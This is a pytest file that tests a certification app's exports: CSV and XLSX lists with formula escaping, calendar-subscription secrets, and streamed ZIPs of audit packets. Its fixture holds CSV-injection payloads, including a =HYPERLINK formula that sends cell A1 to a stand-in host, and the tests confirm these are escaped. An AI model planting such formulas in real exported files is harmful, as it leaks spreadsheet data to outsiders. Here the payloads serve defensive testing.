"""What a coordinator takes out, on SQLite and PostgreSQL: the list as XLSX and CSV (opened again, formulas
escaped), calendar subscriptions behind a personal secret, and the audit packets streamed as one ZIP.

The world is the one of tests/test_services_dashboard.py, with a Familienzentrum whose name and towns try to
be formulas. The ZIP's streaming is tested with quick jobs (Urkunden; the job functions below run in the
worker processes, which import this module by name); the real packets are the browser journey's.
"""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import datetime

import pytest
from db_support import FixedClock, db_url, engine, postgres_admin  # noqa: F401
from openpyxl import load_workbook
from sqlalchemy import select, text
from test_services_dashboard import BY, START, WHY, build_world

from certflow.catalogue.model import Form
from certflow.db import UnitOfWork
from certflow.db.tables import ApiTokenRow, AuditLogRow
from certflow.errors import InputError
from certflow.lifecycle import Refused
from certflow.lifecycle.entities import Familienzentrum, Kita
from certflow.packet import BatchJob
from certflow.packet.sample import sample_certificate
from certflow.services import accounts, exports
from certflow.services.dashboard import FamilienzentrumFilter
from certflow.services.runner import Application, ErrorKind, UseCaseError
from certflow.settings import Settings

EVIL_NAME = '=HYPERLINK("http://example.invalid/?"&A1;"Klick")'
EVIL_TOWNS = {"k-evil-1": "+49 Stadt", "k-evil-2": "-Ort", "k-evil-3": "@SUMME(A1)", "k-evil-4": "\tTab",
              "k-evil-5": "\rZeile"}


@pytest.fixture
def world(engine):  # noqa: F811 - the fixture of db_support
    build_world(engine)
    with UnitOfWork(engine, clock=FixedClock(START)) as uow:
        for kita, town in EVIL_TOWNS.items():
            uow.kitas.add(Kita(kita, f"Kita {kita}", "tr", "ja-a", "Weg 1", "50000", town, 51.0, 7.0), actor_id=BY,
                          reason=WHY)
        uow.familienzentren.add(Familienzentrum("fz-evil", EVIL_NAME, Form.VERBUND, tuple(EVIL_TOWNS), "k-evil-1",
                                                "ja-a"), actor_id=BY, reason=WHY)
    return engine


def _run(db, action, *args, **kwargs):
    with UnitOfWork(db, clock=FixedClock(START)) as uow:
        return action(uow, *args, **kwargs)


# -- spreadsheets -----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("value, shown", [
    ("=1+2", "'=1+2"), ("+49 221", "'+49 221"), ("-3", "'-3"), ("@SUMME(A1)", "'@SUMME(A1)"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("Familienzentrum Eins", "Familienzentrum Eins"), ("a=b", "a=b"), ("", ""),
    ("Glocke\x07=", "Glocke="), ("\x00=1", "'=1"),  # control characters go first, then the start is checked
])
def test_spreadsheet_text_escapes_what_would_run_as_a_formula(value, shown):
    assert exports.spreadsheet_text(value) == shown


def _csv_rows(body: bytes) -> list[list[str]]:
    assert body.startswith("\ufeff".encode())  # UTF-8 with BOM: spreadsheet programs read the umlauts right
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""), delimiter=";"))


def test_the_csv_opens_with_the_list_and_no_formula(world):
    export = _run(world, exports.export_familienzentren, "koord-a", None, "csv")
    assert (export.filename, export.media_type) == ("familienzentren-ja-a-2025-09-01.csv", "text/csv; charset=utf-8")
    header, *rows = _csv_rows(export.body)
    assert header == list(exports.COLUMNS)
    by_id = {row[0]: row for row in rows}
    assert list(by_id) == ["fz-1", "fz-2", "fz-3", "fz-4", "fz-5", "fz-evil"]
    assert by_id["fz-1"] == ["fz-1", "Familienzentrum Eins", "Einzeleinrichtung", "1", "Musterstadt", "V-2025-001",
                             "Re-Zertifizierung", "2025/26", "registriert", "", "FZ-2022-001", "gültig", "31.07.2026"]
    assert by_id["fz-5"][5:10] == ["", "", "", "ohne Verfahren", ""]
    evil = by_id["fz-evil"]
    assert evil[1] == "'" + EVIL_NAME and evil[3] == "5"
    assert evil[4] == "'+49 Stadt, -Ort, @SUMME(A1), \tTab, \rZeile"  # one cell: only its start counts
    assert not any(cell.startswith(exports.FORMULA_STARTS) for row in rows for cell in row)


def test_the_xlsx_opens_with_the_list_dates_as_dates_and_no_formula(world):
    export = _run(world, exports.export_familienzentren, "koord-a", FamilienzentrumFilter(form=Form.VERBUND), "xlsx")
    assert export.filename == "familienzentren-ja-a-2025-09-01.xlsx"
    book = load_workbook(io.BytesIO(export.body))
    assert book.sheetnames == ["Familienzentren", "Info"]
    sheet = book["Familienzentren"]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == exports.COLUMNS and sheet.freeze_panes == "A2" and sheet["A1"].font.bold
    assert [row[0] for row in rows[1:]] == ["fz-3", "fz-evil"]
    three = rows[1]
    assert three[:5] == ("fz-3", "Familienzentrum Drei", "Verbund", 2, "Nebenort")
    assert three[12] == datetime(2027, 7, 31) and sheet.cell(row=2, column=13).number_format == "DD.MM.YYYY"
    evil = sheet["B3"]
    assert (evil.value, evil.data_type) == ("'" + EVIL_NAME, "s")
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    info = dict(book["Info"].iter_rows(values_only=True))
    assert info == {"Jugendamt": "Jugendamt Musterkreis", "Stand": "01.09.2025", "Filter": "Form: Verbund",
                    "Familienzentren": "2"}


def test_the_export_has_the_scope_and_the_filters_of_the_list(world):
    rows = _csv_rows(_run(world, exports.export_familienzentren, "koord-b", None, "csv").body)[1:]
    assert [row[0] for row in rows] == ["fz-9"]
    filtered = _run(world, exports.export_familienzentren, "koord-a",
                    FamilienzentrumFilter(state="nominated"), "csv")
    assert [row[0] for row in _csv_rows(filtered.body)[1:]] == ["fz-2"]
    empty = load_workbook(io.BytesIO(_run(world, exports.export_familienzentren, "koord-a",
                                          FamilienzentrumFilter(town="Nirgendwo"), "xlsx").body))
    assert list(empty["Familienzentren"].iter_rows(values_only=True)) == [exports.COLUMNS]
    with pytest.raises(Refused):
        _run(world, exports.export_familienzentren, "leitung-1", None, "csv")
    with pytest.raises(InputError) as bad:
        _run(world, exports.export_familienzentren, "koord-a", None, "pdf")
    assert bad.value.problems[0].message == "nur csv oder xlsx"


# -- calendar subscriptions ---------------------------------------------------------------------------------------


def _audit(db, subject: str) -> list[tuple[str, str, str]]:
    with db.connect() as connection:
        return [tuple(row) for row in connection.execute(
            select(AuditLogRow.actor_id, AuditLogRow.action, AuditLogRow.reason)
            .where(AuditLogRow.subject_id == subject).order_by(AuditLogRow.seq))]


def test_a_subscription_gives_the_jugendamt_calendar_until_it_is_ended(world):
    created = _run(world, exports.create_calendar_subscription, "koord-a", "  Outlook im Büro ")
    secret = created.facts["secret"]
    assert created.event == "calendar_subscription.created" and created.facts["label"] == "Outlook im Büro"
    assert secret.startswith("cft_") and len(secret) > 40
    with world.connect() as connection:  # only the hash is stored
        assert secret not in str(connection.execute(text("SELECT * FROM api_token")).all())
    (listed,) = _run(world, exports.calendar_subscriptions, "koord-a")
    assert (listed.id, listed.label, listed.scope.value) == (created.facts["id"], "Outlook im Büro", "read")
    feed = _run(world, exports.jugendamt_calendar, secret)
    assert feed.name == "Jugendamt Musterkreis" and feed.body.startswith(b"BEGIN:VCALENDAR")
    assert feed.events > 0 and b"FZ-2022-001" in feed.body and b"FZ-2022-009" not in feed.body
    assert _run(world, exports.calendar_subscriptions, "koord-a")[0].last_used_at is not None
    ended = _run(world, exports.revoke_calendar_subscription, "koord-a", created.facts["id"])
    assert ended.event == "calendar_subscription.revoked" and ended.facts["label"] == "Outlook im Büro"
    assert _run(world, exports.calendar_subscriptions, "koord-a") == []
    with pytest.raises(Refused, match="ungültig, abgelaufen oder widerrufen"):
        _run(world, exports.jugendamt_calendar, secret)
    assert [(actor, reason) for actor, _, reason in _audit(world, "koord-a")][-2:] == [
        ("koord-a", "Kalender-Abo „Outlook im Büro“ angelegt"), ("koord-a", "Kalender-Abo „Outlook im Büro“ beendet")]


def test_only_ones_own_subscriptions_can_be_ended_and_nothing_else(world):
    mine = _run(world, exports.create_calendar_subscription, "koord-a", "Thunderbird")
    cli = _run(world, accounts.create_token, "koord-a", "koord-a", label="Laptop")  # a write token: not an Abo
    for actor, token_id in (("koord-b", mine.facts["id"]), ("koord-a", cli.id), ("koord-a", 9999)):
        with pytest.raises(Refused, match=f"Ein Kalender-Abo Nr. {token_id} gibt es unter Ihren Abos nicht"):
            _run(world, exports.revoke_calendar_subscription, actor, token_id)
    assert [t.label for t in _run(world, exports.calendar_subscriptions, "koord-a")] == ["Thunderbird"]
    assert _run(world, exports.jugendamt_calendar, mine.facts["secret"]).name == "Jugendamt Musterkreis"
    with world.connect() as connection:
        assert connection.execute(select(ApiTokenRow.revoked_at).where(ApiTokenRow.id == cli.id)).scalar() is None


@pytest.mark.parametrize("actor", ["leitung-1", "aud", "zert", "admin", "koord-ohne"])
def test_subscriptions_are_the_coordinators(world, actor):
    for action, args in ((exports.create_calendar_subscription, ("x",)), (exports.calendar_subscriptions, ())):
        with pytest.raises(Refused, match="Kalender-Abos gibt es für die Koordination im Jugendamt"):
            _run(world, action, actor, *args)


def test_a_secret_of_anyone_but_a_coordinator_opens_no_calendar(world):
    token = _run(world, accounts.create_token, "admin", "admin", label="Lesen", scope="read")
    with pytest.raises(Refused, match="gehört zu keinem Jugendamt"):
        _run(world, exports.jugendamt_calendar, token.token)
    for secret in ("", "cft_erfunden", "x" * 200):
        with pytest.raises(Refused):
            _run(world, exports.jugendamt_calendar, secret)


@pytest.mark.parametrize("label, message", [("", "Bitte eine Bezeichnung angeben"),
                                            ("x" * 101, "höchstens 100 Zeichen")])
def test_a_bad_label_is_bad_input(world, label, message):
    with pytest.raises(InputError) as bad:
        _run(world, exports.create_calendar_subscription, "koord-a", label)
    assert [(p.path, p.message) for p in bad.value.problems] == [(("label",), message)]


# -- the packets' ZIP ------------------------------------------------------------------------------------------------


def cannot_load():
    raise RuntimeError("Verfahren nicht lesbar")


@pytest.fixture(scope="module")
def certificate():
    return sample_certificate("einzel")


def _folders() -> set[str]:
    """The archives' working folders in the temporary directory."""
    import glob
    import tempfile

    return set(glob.glob(f"{tempfile.gettempdir()}/certflow-pakete-*"))


def _archive(jobs, ids) -> exports.PacketArchive:
    return exports.PacketArchive("ja-a", tuple(ids), "auditpakete-ja-a.zip", jobs, workers=2, timeout_s=60,
                                 memory_mb=1024)


def test_the_zip_is_streamed_a_packet_at_a_time_and_names_what_failed(certificate):
    before = _folders()
    jobs = [BatchJob("paket-0001", certificate, kind="urkunde"), BatchJob("paket-0002", cannot_load),
            BatchJob("paket-0003", certificate, kind="urkunde")]
    archive = _archive(jobs, ["V-2025-001", "V-2025-002", "V-2025-003"])
    chunks = list(archive.chunks())
    assert len(chunks) == 3 and all(chunks) and chunks[0].startswith(b"PK")  # one per packet, then the directory
    with zipfile.ZipFile(io.BytesIO(b"".join(chunks))) as zipped:
        assert zipped.testzip() is None
        assert sorted(zipped.namelist()) == ["FEHLER.txt", "V-2025-001.pdf", "V-2025-003.pdf"]
        assert zipped.read("V-2025-001.pdf").startswith(b"%PDF-")
        errors = zipped.read("FEHLER.txt").decode("utf-8")
    assert errors == ("Diese Auditpakete konnten nicht erstellt werden:\r\n"
                      "V-2025-002: Unerwarteter Fehler (RuntimeError): Verfahren nicht lesbar\r\n")
    assert archive.failed == [("V-2025-002", "Unerwarteter Fehler (RuntimeError): Verfahren nicht lesbar")]
    assert _folders() == before  # the rendered files are gone


def test_an_archive_without_packets_says_so():
    before = _folders()
    with zipfile.ZipFile(io.BytesIO(b"".join(_archive([], []).chunks()))) as zipped:
        assert zipped.namelist() == ["LIESMICH.txt"]
        assert "noch kein Auditpaket" in zipped.read("LIESMICH.txt").decode("utf-8")
    assert _folders() == before


def test_a_client_that_goes_away_stops_the_batch(certificate):
    import time

    before = _folders()
    jobs = [BatchJob(f"paket-{n:04d}", certificate, kind="urkunde") for n in range(1, 9)]
    archive = _archive(jobs, [f"V-{n}" for n in range(1, 9)])
    stream = archive.chunks()
    assert next(stream).startswith(b"PK")  # the first packet arrived
    stream.close()  # the client is gone
    started = time.monotonic()
    while _folders() != before and time.monotonic() < started + 60:
        time.sleep(0.1)
    assert _folders() == before  # the batch stopped and cleaned up after the Urkunde in hand


def test_the_packet_archive_of_a_jugendamt_is_checked_before_anything_renders(world):
    app = Application(Settings(database_url=world.url.render_as_string(hide_password=False)), engine=world,
                      clock=FixedClock(START), after_commit=[])
    archive = exports.packet_archive(app, "koord-a")
    assert archive.procedure_ids == ("V-2019-004", "V-2021-001", "V-2022-003", "V-2023-004")
    assert archive.filename == "auditpakete-ja-a-2025-09-01.zip"
    assert [job.id for job in archive.jobs] == ["paket-0001", "paket-0002", "paket-0003", "paket-0004"]
    assert {job.kind for job in archive.jobs} == {"packet"}
    assert exports.packet_archive(app, "koord-b").procedure_ids == ("V-2021-009",)
    for actor, kind in (("leitung-1", ErrorKind.REFUSED), ("aud", ErrorKind.REFUSED), ("zert", ErrorKind.REFUSED)):
        with pytest.raises(UseCaseError) as refused:
            exports.packet_archive(app, actor)
        assert refused.value.kind is kind
    with pytest.raises(UseCaseError) as other:
        exports.packet_archive(app, "koord-a", jugendamt_id="ja-b")
    assert "darf das Jugendamt ja-b nicht sehen" in other.value.message
    assert exports.packet_archive(app, "zert", jugendamt_id="ja-b").procedure_ids == ("V-2021-009",)
